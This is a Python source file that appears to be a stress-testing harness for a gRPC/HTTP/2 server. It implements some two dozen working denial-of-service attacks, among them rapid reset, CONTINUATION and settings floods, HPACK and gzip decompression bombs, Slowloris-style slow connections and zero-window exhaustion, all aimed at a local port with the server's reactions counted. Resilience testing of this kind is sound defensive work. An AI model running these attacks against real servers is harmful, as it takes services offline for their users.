"""Attacks on a gRPC server, each a function that goes on until the clock says stop.

An attack gets a `Siege` and returns nothing; what the server did is counted there. Bytes are made
ahead of time, so that an attacker costs itself as little as it can.
"""

import contextlib
import dataclasses
import functools
import gzip
import selectors
import socket
import ssl
import struct
import time

from hostile import *  # noqa: F403: frames by name
from hostile_messages import held_messages  # noqa: F401: an attack, by its name

CHUNK = 256 << 10


@dataclasses.dataclass
class Place:
    """What is attacked."""

    port: int
    # Whether connections begin with TLS.
    tls: bool = False
    # Fields of every call: a credential.
    fields: tuple = ()


class Siege:
    """Where to attack, how long, and what came of it."""

    def __init__(self, place, seconds):
        self.place = place
        self.seconds = seconds
        self.end = None
        self.counts = {}
        self._call = self.fields("FullDuplexCall")

    @property
    def goes_on(self):
        # From the first time on: what is sent is made before.
        self.end = self.end or time.monotonic() + self.seconds
        return time.monotonic() < self.end

    def count(self, what, number=1):
        self.counts[what] = self.counts.get(what, 0) + number

    def fields(self, method, **fields):
        """The field block of a call."""
        return block(request(method, add=self.place.fields, **fields))

    def head(self, stream, fields=None, flags=END_HEADERS):
        """The HEADERS of a call; without fields one of FullDuplexCall."""
        return frame(HEADERS, flags, stream, self._call if fields is None else fields)

    def dial(self):
        """A connection of the transport, which says nothing yet."""
        for _ in range(100):
            try:
                return socket.create_connection(("127.0.0.1", self.place.port), timeout=2)
            except OSError:
                self.count("refused")
                time.sleep(0.01)
        raise SystemExit("the server takes no connections any more")

    def connect(self, protocol="h2"):
        """A connection for that protocol, with TLS where the place has it."""
        if not self.place.tls:
            return self.dial()
        for _ in range(100):
            try:
                return _context(protocol).wrap_socket(self.dial())
            except OSError:
                self.count("refused")
        raise SystemExit("the server takes no connections any more")

    def greeted(self, *pairs):
        connection = self.connect()
        connection.sendall(PREFACE + settings(*pairs) + settings(flags=ACK))
        return connection

    def flood(self, opening, chunk, reads=True, opens=None):
        """One connection after the other: the opening, then the chunk again and again."""
        while self.goes_on:
            with contextlib.closing((opens or self.greeted)()) as connection:
                self.count("connections")
                try:
                    connection.sendall(opening)
                    while self.goes_on:
                        # At most the time that is left: a server may stop reading.
                        connection.settimeout(max(0.01, min(1, self.end - time.monotonic())))
                        connection.sendall(chunk)
                        if reads:
                            self.take(connection)
                except TimeoutError:
                    self.count("stopped reading")
                except OSError:
                    self.count("cut off")

    def take(self, connection):
        """Reads what is there."""
        seconds = connection.gettimeout()
        connection.setblocking(False)
        try:
            while connection.recv(1 << 16):
                pass
            raise ConnectionResetError
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        finally:
            connection.settimeout(seconds)

    def hold(self, connections, each, pause=0.05, opens=None):
        """Keeps connections, opening anew those that were closed; `each` does something on them."""
        held = []
        watch = selectors.DefaultSelector()
        while self.goes_on:
            while len(held) < connections and self.goes_on:
                connection = (opens or self.connect)()
                held.append(connection)
                watch.register(connection, selectors.EVENT_READ)
                self.count("connections")
                with contextlib.suppress(OSError):
                    each(connection, True)
            for key, _ in watch.select(0):
                with contextlib.suppress(OSError):
                    self.take(key.fileobj)
                    continue
                self.count("cut off")
                watch.unregister(key.fileobj)
                held.remove(key.fileobj)
                key.fileobj.close()
            for connection in held:
                with contextlib.suppress(OSError):
                    each(connection, False)
            time.sleep(pause)
        for connection in held:
            connection.close()


@functools.cache
def _context(protocol):
    return client_context(protocol)


def repeated(one):
    return one * (CHUNK // len(one))


def streams(build, count=20_000):
    """A flood of frames with rising stream identifiers; it starts over on a new connection."""

    def attack(siege):
        chunks, size = [], 500
        for first in range(0, count, size):
            chunks.append(b"".join(build(siege, 2 * i + 1) for i in range(first, first + size)))
        while siege.goes_on:
            with contextlib.closing(siege.greeted()) as connection:
                siege.count("connections")
                try:
                    for chunk in chunks:
                        connection.settimeout(max(0.01, min(1, siege.end - time.monotonic())))
                        connection.sendall(chunk)
                        siege.take(connection)
                except TimeoutError:
                    siege.count("stopped reading")
                except OSError:
                    siege.count("cut off")

    return attack


def settings_flood(siege):
    siege.flood(b"", repeated(settings((WINDOW_SIZE, 65_535))))


def settings_table_flood(siege):
    one = settings(*[(TABLE_SIZE, 0 if i % 2 else 4096) for i in range(30)])
    siege.flood(b"", repeated(one))


def ping_flood(siege):
    siege.flood(b"", repeated(frame(PING, 0, 0, bytes(8))))


def unread_ping_flood(siege):
    siege.flood(b"", repeated(frame(PING, 0, 0, bytes(8))), reads=False)


def empty_data(siege):
    siege.flood(siege.head(1), repeated(frame(DATA, 0, 1)))


def padded_data(siege):
    siege.flood(siege.head(1), repeated(frame(DATA, PADDED, 1, b"\xff" + bytes(255))))


def priority_flood(siege):
    siege.flood(b"", repeated(frame(PRIORITY, 0, 7, struct.pack(">IB", 3, 1))))


def window_update_flood(siege):
    siege.flood(siege.head(1), repeated(window_update(1, 1)))


def unknown_frames(siege):
    siege.flood(b"", repeated(frame(0x77, 0, 0, b"x")))


rapid_reset = streams(lambda siege, stream: siege.head(stream) + rst(stream))
half_requests = streams(lambda siege, stream: siege.head(stream), 2_000)
provoked_resets = streams(lambda siege, stream: siege.head(stream) + window_update(stream, 0))
malformed_heads = streams(
    lambda siege, stream: siege.head(stream, block([(":method", "GET")]))
)


def _whole(fields):
    """Builds requests that have no body."""
    return lambda siege, stream: siege.head(stream, fields, END_HEADERS | END_STREAM)


def refused_calls(siege):
    streams(_whole(siege.fields("Nothing")))(siege)


def continuation_flood(siege):
    siege.flood(
        siege.head(1, flags=0), repeated(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"))
    )


def empty_continuations(siege):
    siege.flood(siege.head(1, flags=0), repeated(frame(CONTINUATION, 0, 1)))


def hpack_bomb(siege):
    """A field of 4 kB in the table, then a byte for each time it is named."""
    fields = siege.fields("FullDuplexCall") + b"\x40\x01a" + integer(4000, 7) + b"x" * 4000
    bombs = (siege.head(2 * i + 3, b"\xbe" * 16_000) for i in range(16))
    siege.flood(siege.head(1, fields), b"".join(bombs))


def header_lists(siege):
    fields = siege.fields("FullDuplexCall") + literal("x", "y" * 14_000)
    streams(_whole(fields), 4_000)(siege)


def gzip_bomb(siege):
    """3 kB that unpack to 3 MB, just below the limit of a message, and some above it."""
    small, large = (gzip.compress(bytes(size << 20), 9) for size in (3, 64))
    fields = siege.fields("UnaryCall", grpc_encoding="gzip")
    calls = streams(
        lambda siege, stream: siege.head(stream, fields)
        + b"".join(
            frame(DATA, 0, stream, message(bomb, 1)[i : i + 16_384])
            for bomb in (small if stream % 4 == 1 else large,)
            for i in range(0, len(bomb) + 5, 16_384)
        )
        + frame(DATA, END_STREAM, stream),
        1_000,
    )
    calls(siege)


def slow_preface(siege):
    def each(connection, is_new):
        if is_new:
            connection.sendall(PREFACE[:10])

    siege.hold(300, each)


def slow_headers(siege):
    def each(connection, is_new):
        if is_new:
            connection.sendall(PREFACE + settings() + settings(flags=ACK) + siege.head(1)[:20])
        else:
            connection.sendall(siege.fields("FullDuplexCall")[:1])

    siege.hold(300, each, 0.5)


def slow_tls(siege):
    def each(connection, is_new):
        if is_new:
            connection.sendall(b"\x16\x03\x01\x02\x00\x01")

    siege.hold(300, each, opens=siege.dial)


def tls_handshakes(siege):
    while siege.goes_on:
        connection = siege.dial()
        siege.count("connections")
        with contextlib.suppress(OSError):
            _context("h2").wrap_socket(connection).close()


def zero_window(siege):
    """Calls whose answers of 1 MB may not be sent."""
    call = siege.fields("UnaryCall")
    body = message(b"\x10\x80\x80\x40")
    calls = b"".join(
        siege.head(2 * i + 1, call) + frame(DATA, END_STREAM, 2 * i + 1, body) for i in range(250)
    )

    def each(connection, is_new):
        if is_new:
            connection.sendall(PREFACE + settings((WINDOW_SIZE, 0)) + settings(flags=ACK) + calls)

    siege.hold(2, each)


def never_reading(siege):
    """Answers without end, an open window, and no read."""
    call = siege.fields("StreamingOutputCall")
    body = message(b"\x12\x04\x08\x80\x80\x04" * 2_000)
    greeting = PREFACE + settings((WINDOW_SIZE, 0x7FFFFFFF)) + settings(flags=ACK)
    calls = window_update(0, 0x7FFF0000 - 65_535) + b"".join(
        siege.head(2 * i + 1, call) + frame(DATA, END_STREAM, 2 * i + 1, body) for i in range(50)
    )
    held = []
    while siege.goes_on:
        if len(held) < 20:
            connection = siege.connect()
            connection.sendall(greeting + calls)
            held.append(connection)
            siege.count("connections")
        time.sleep(0.01)


def idle_connections(siege):
    def each(connection, is_new):
        if is_new:
            connection.sendall(PREFACE + settings() + settings(flags=ACK))

    siege.hold(2_000, each, 0.2)


def reconnections(siege):
    while siege.goes_on:
        with contextlib.suppress(OSError), contextlib.closing(siege.greeted()):
            siege.count("connections")


def neighbor(siege):
    """No attack: a busy client that behaves, 32 calls under way on one connection."""
    fields, together = siege.fields("EmptyCall"), 32
    with contextlib.closing(siege.greeted()) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        stream, buffer = 1, b""
        while siege.goes_on:
            ids = range(stream, stream + 2 * together, 2)
            stream += 2 * together
            calls = b"".join(
                siege.head(i, fields) + frame(DATA, END_STREAM, i, message(b"")) for i in ids
            )
            connection.sendall(calls + window_update(0, 5 * together))
            left = together
            while left:
                chunk = connection.recv(1 << 16)
                if not chunk:
                    raise SystemExit("the server closed a connection that behaves")
                buffer += chunk
                at = 0
                while len(buffer) - at >= 9:
                    end = at + 9 + int.from_bytes(buffer[at : at + 3], "big")
                    if len(buffer) < end:
                        break
                    if buffer[at + 3] == HEADERS and buffer[at + 4] & END_STREAM:
                        left -= 1
                    at = end
                buffer = buffer[at:]
            siege.count("calls", together)


# Every attack, by the name of its function.
_NAMES = (
    "settings_flood settings_table_flood ping_flood unread_ping_flood empty_data padded_data "
    "priority_flood window_update_flood unknown_frames rapid_reset half_requests "
    "provoked_resets malformed_heads refused_calls continuation_flood empty_continuations "
    "hpack_bomb header_lists gzip_bomb slow_preface slow_headers slow_tls tls_handshakes "
    "zero_window never_reading held_messages idle_connections reconnections"
).split()
ATTACKS = {name: globals()[name] for name in _NAMES}
